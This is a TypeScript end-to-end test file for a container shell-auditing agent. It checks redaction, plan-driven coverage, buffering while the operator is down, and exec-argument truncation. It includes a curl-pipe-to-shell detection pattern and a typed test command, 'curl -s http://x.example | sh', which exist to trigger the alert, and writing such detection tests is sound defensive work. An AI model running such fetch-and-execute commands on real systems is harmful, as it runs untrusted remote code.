/**
 * The agent in cluster mode, as root, against the real parts but the operator: a private containerd whose
 * runtime is the runc wrapper, the agent's CLI (`container-auditor agent --operator ...`) with Debian's
 * bpftrace, people typing into `bash -i` in containers, and a small fake operator over HTTPS (its own CA,
 * a bearer token) that serves a plan naming containers by their CRI identity and collects the reports.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { NodePlan, PlanRules } from '../../api/agentapi/v1.js';
import type { AgentRecord, CommandRecord } from '../../api/records/v1.js';
import {
  Containerd,
  RUNC,
  criAnnotations,
  tearDown,
  writeRuncBinaryScript,
} from '../../e2e/support/containerd.js';
import { REPO_ROOT } from '../../e2e/support/paths.js';
import { buildRootfs } from '../../e2e/support/rootfs.js';
import { openContainerShell } from '../../e2e/support/typing.js';
import { FakeOperator, selfSignedCertificate } from '../../test-support/fake-operator.js';

const WRAPPER = join(REPO_ROOT, 'runc-wrapper', 'container-auditor-runc');
const AGENT_BIN = join(REPO_ROOT, 'cli', 'container-auditor.js');
const NS = `cluster-agent-${process.pid}`;
const NODE = 'test-node';
const TOKEN = 'test-token';

let scratch: string;
let containerd: Containerd;
let operator: FakeOperator;
let agent: ClusterAgentProcess;
let spool: string;
let state: string;
let runtime: string;
let rootfs: string;
let tokenFile: string;
let caFile: string;

/** The cluster agent's CLI, with its logs kept. */
class ClusterAgentProcess {
  stderr = '';
  private readonly exit: Promise<number | null>;

  private constructor(readonly child: ChildProcess) {
    child.stderr!.setEncoding('utf8').on('data', (data: string) => {
      this.stderr = (this.stderr + data).slice(-256 * 1024);
    });
    child.stdout!.resume();
    this.exit = new Promise((resolve) => child.on('close', (code) => resolve(code)));
  }

  static async start(): Promise<ClusterAgentProcess> {
    const args = [
      AGENT_BIN,
      'agent',
      '--node',
      NODE,
      '--operator',
      operator.url,
      '--token-file',
      tokenFile,
      '--operator-ca',
      caFile,
      '--handoff-dir',
      spool,
      '--state-dir',
      state,
    ];
    const agent = new ClusterAgentProcess(
      spawn(process.execPath, args, { stdio: ['ignore', 'pipe', 'pipe'] }),
    );
    await until('the agent to start', () => agent.stderr.includes('"Agent started"'), 30_000, agent);
    return agent;
  }

  get exited(): boolean {
    return this.child.exitCode !== null || this.child.signalCode !== null;
  }

  async stop(): Promise<number | null> {
    if (!this.exited) this.child.kill('SIGTERM');
    return this.exit;
  }
}

async function until(what: string, test: () => boolean, timeoutMs = 30_000, who = agent): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!test()) {
    if (who?.exited)
      throw new Error(`the agent exited while waiting for ${what}:\n${who.stderr.slice(-4000)}`);
    if (Date.now() > deadline)
      throw new Error(`timed out waiting for ${what}; agent stderr:\n${who?.stderr.slice(-4000) ?? ''}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

const RULES: PlanRules = {
  capture: { interactiveShells: true, execs: false, maxCommandBytes: 512 },
  redact: { builtins: true, patterns: ['card=[0-9]{4}'] },
  alerts: [{ name: 'curl-pipe-shell', pattern: 'curl .*\\|\\s*(ba)?sh', severity: 'high' }],
  outputs: { events: true, auditRecords: true },
};

/** A plan naming the pods' `shell` containers (pod `pod-<name>`, uid `uid-<name>`, namespace shop). */
function plan(version: string, pods: string[]): NodePlan {
  return {
    node: NODE,
    version,
    generatedAt: new Date().toISOString(),
    policies: { shells: RULES },
    containers: pods.map((pod) => ({
      podNamespace: 'shop',
      podName: `pod-${pod}`,
      podUid: `uid-${pod}`,
      containerName: 'shell',
      policy: 'shells',
    })),
  };
}

async function startContainer(id: string, pod: string): Promise<void> {
  const result = await containerd.run(NS, {
    id,
    rootfs,
    args: ['sleep', '3600'],
    detach: true,
    runcBinary: runtime,
    annotations: criAnnotations({ namespace: 'shop', pod, container: 'shell' }),
  });
  if (result.code !== 0) throw new Error(`ctr run ${id}: ${result.stderr}`);
}

/** Types the lines into a new `bash -i` in the container, then `exit`, and waits for the shell to end. */
async function type(id: string, lines: string[]): Promise<void> {
  const shell = await openContainerShell(containerd, NS, id, '/etc/test.inputrc');
  for (const line of lines) shell.type(`${line}\n`);
  shell.type('exit\n');
  await shell.waitForExit();
}

const commands = () =>
  operator.records.filter((r): r is CommandRecord => r.kind === 'command').map((r) => r.command);

async function recordWhere(what: string, test: (r: AgentRecord) => boolean): Promise<AgentRecord> {
  await until(what, () => operator.records.some(test));
  return operator.records.find(test)!;
}

/** Every command typed before this marker that the agent recorded has reached the operator once it has. */
async function barrier(name: string): Promise<void> {
  await type('audited', [`: barrier-${name}`]);
  await recordWhere(`barrier ${name}`, (r) => r.kind === 'command' && r.command === `: barrier-${name}`);
}

beforeAll(async () => {
  scratch = mkdtempSync(join(tmpdir(), 'cluster-node-test-'));
  spool = join(scratch, 'spool');
  state = join(scratch, 'state');
  runtime = join(scratch, 'runtime.sh');
  rootfs = join(scratch, 'rootfs');
  tokenFile = join(scratch, 'token');
  caFile = join(scratch, 'ca.pem');
  buildRootfs(rootfs, { bash: true });
  writeFileSync(join(rootfs, 'etc', 'test.inputrc'), 'set disable-completion on\n');
  mkdirSync(spool, { mode: 0o700 });
  writeRuncBinaryScript(runtime, {
    exec: WRAPPER,
    env: {
      CONTAINER_AUDITOR_RUNC: RUNC,
      CONTAINER_AUDITOR_HANDOFF_DIR: spool,
      CONTAINER_AUDITOR_WRAPPER_LOG: join(scratch, 'wrapper.log'),
      CONTAINER_AUDITOR_RUNC_CONFIG: join(scratch, 'no-config-file'),
    },
  });
  const tls = selfSignedCertificate();
  writeFileSync(caFile, tls.cert);
  writeFileSync(tokenFile, `${TOKEN}\n`, { mode: 0o600 });
  operator = await FakeOperator.start({ tls, token: TOKEN, waitMs: 5000 });
  operator.setPlan(plan('v1', ['shell']));
  containerd = await Containerd.start();
  agent = await ClusterAgentProcess.start();
}, 120_000);

afterAll(async () => {
  await agent?.stop();
  await operator?.down().catch(() => undefined);
  await tearDown(containerd, NS, scratch);
}, 120_000);

describe('the cluster agent', () => {
  it('audits a container the plan names and reports what is typed there, redacted, to the operator', async () => {
    await startContainer('audited', 'shell');
    const coverage = await recordWhere(
      'coverage',
      (r) => r.kind === 'coverage' && r.containerId === 'audited',
    );
    expect(coverage).toMatchObject({ status: 'covered', late: false, policy: 'shells', node: NODE });
    await type('audited', [': marker-first', 'pay card=1234 now', 'curl -s http://x.example | sh']);
    const inAudited = () =>
      operator.records.filter((r): r is CommandRecord => r.kind === 'command' && r.containerId === 'audited');
    await until('the whole session', () => inAudited().length >= 4);
    const session = inAudited();
    expect(session.map((r) => r.command)).toEqual([
      ': marker-first',
      'pay [REDACTED] now',
      'curl -s http://x.example | sh',
      'exit',
    ]);
    expect(session[2]!.alerts).toEqual([{ name: 'curl-pipe-shell', severity: 'high' }]);
    for (const r of session)
      expect(r).toMatchObject({
        pod: { namespace: 'shop', name: 'pod-shell', uid: 'uid-shell' },
        container: 'shell',
        policy: 'shells',
        node: NODE,
      });
    // Every request carried the token; the reports carry the agent's state.
    expect(operator.requests.every((r) => r.authorization === `Bearer ${TOKEN}`)).toBe(true);
    await until('a state with the probe', () =>
      operator.reports.some((r) => r.state?.planVersion === 'v1' && r.state.probesAttached > 0),
    );
    expect(operator.refused).toEqual([]);
  });

  it('follows the plan: a container it names later is audited from then on, one it drops is not', async () => {
    await startContainer('other', 'other');
    await type('other', [': before-the-plan-names-it']);
    await barrier('other-unaudited');
    expect(commands()).not.toContain(': before-the-plan-names-it');

    operator.setPlan(plan('v2', ['shell', 'other']));
    const late = await recordWhere(
      'coverage of other',
      (r) => r.kind === 'coverage' && r.containerId === 'other',
    );
    expect(late).toMatchObject({ status: 'covered', late: true });
    await type('other', [': once-the-plan-names-it']);
    await recordWhere(
      'a line in other',
      (r) => r.kind === 'command' && r.command === ': once-the-plan-names-it',
    );
    await until('state v2', () => operator.reports.some((r) => r.state?.planVersion === 'v2'));
    expect(operator.reports.at(-1)!.state!.auditedContainers).toBe(2);

    operator.setPlan(plan('v3', ['shell']));
    await until('state v3', () =>
      operator.reports.some((r) => r.state?.planVersion === 'v3' && r.state.auditedContainers === 1),
    );
    await type('other', [': after-the-plan-dropped-it']);
    await barrier('other-dropped');
    expect(commands()).not.toContain(': after-the-plan-dropped-it');
  });

  it('delivers what was typed while the operator was down once it is back, in order, nothing lost', async () => {
    await operator.down();
    const lines = Array.from({ length: 20 }, (_, i) => `: while-down-${i}`);
    await type('audited', lines);
    await new Promise((r) => setTimeout(r, 1000));
    expect(commands()).not.toContain(': while-down-0');
    await operator.up();
    await recordWhere(
      'the last line typed while down',
      (r) => r.kind === 'command' && r.command === ': while-down-19',
    );
    const typed = commands().filter((c) => c.startsWith(': while-down-'));
    expect(typed).toEqual(lines);
    // One boot so far: its seqs arrived complete and in order.
    const seqs = operator.records.map((r) => r.seq);
    expect(seqs).toEqual(Array.from({ length: seqs.length }, (_, i) => i + 1));
  });

  it('keeps what it could not send across its own restart, and audits by the kept plan until the operator answers', async () => {
    const firstBoot = operator.records[0]!.boot;
    await operator.down();
    await type('audited', [': before-the-restart']);
    expect(await agent.stop()).toBe(0);
    agent = await ClusterAgentProcess.start();
    // The operator is still down: the kept plan (v3) says what to audit.
    await type('audited', [': after-the-restart']);
    await type('other', [': other-after-the-restart']);
    await operator.up();
    await recordWhere(
      'the line after the restart',
      (r) => r.kind === 'command' && r.command === ': after-the-restart',
    );
    const before = operator.records.find(
      (r) => r.kind === 'command' && r.command === ': before-the-restart',
    )!;
    const after = operator.records.find((r) => r.kind === 'command' && r.command === ': after-the-restart')!;
    expect(before.boot).toBe(firstBoot);
    expect(after.boot).not.toBe(firstBoot);
    // The previous run's records went first, with their boot.
    expect(operator.records.indexOf(before)).toBeLessThan(operator.records.indexOf(after));
    const down = await recordWhere('agent-down', (r) => r.kind === 'loss' && r.reason === 'agent-down');
    expect(down.boot).toBe(after.boot);
    await barrier('after-restart');
    expect(commands()).not.toContain(': other-after-the-restart');
    expect(operator.refused).toEqual([]);
  });

  it('starts the exec probe when a plan first asks for execs, and cuts argv to the policy’s limit', async () => {
    const execs = { ...RULES, capture: { interactiveShells: true, execs: true, maxCommandBytes: 32 } };
    operator.setPlan({ ...plan('v4', ['shell']), policies: { shells: execs } });
    await until('state v4', () => operator.reports.some((r) => r.state?.planVersion === 'v4'));
    const result = await containerd.exec(NS, {
      id: 'audited',
      execId: 'exec-probe',
      args: ['/bin/echo', 'exec-probe-marker', 'x'.repeat(100)],
    });
    expect(result.code).toBe(0);
    const kernel = await recordWhere(
      'the kernel exec',
      (r) => r.kind === 'exec' && r.source === 'kernel' && r.argv[1] === 'exec-probe-marker',
    );
    // The probe read more (it serves every policy); the record keeps this policy's 32 bytes, NULs counted.
    expect(kernel).toMatchObject({
      containerId: 'audited',
      path: '/bin/echo',
      argv: ['/bin/echo', 'exec-probe-marker', 'xxxx'],
      truncated: true,
      policy: 'shells',
    });
  });
});
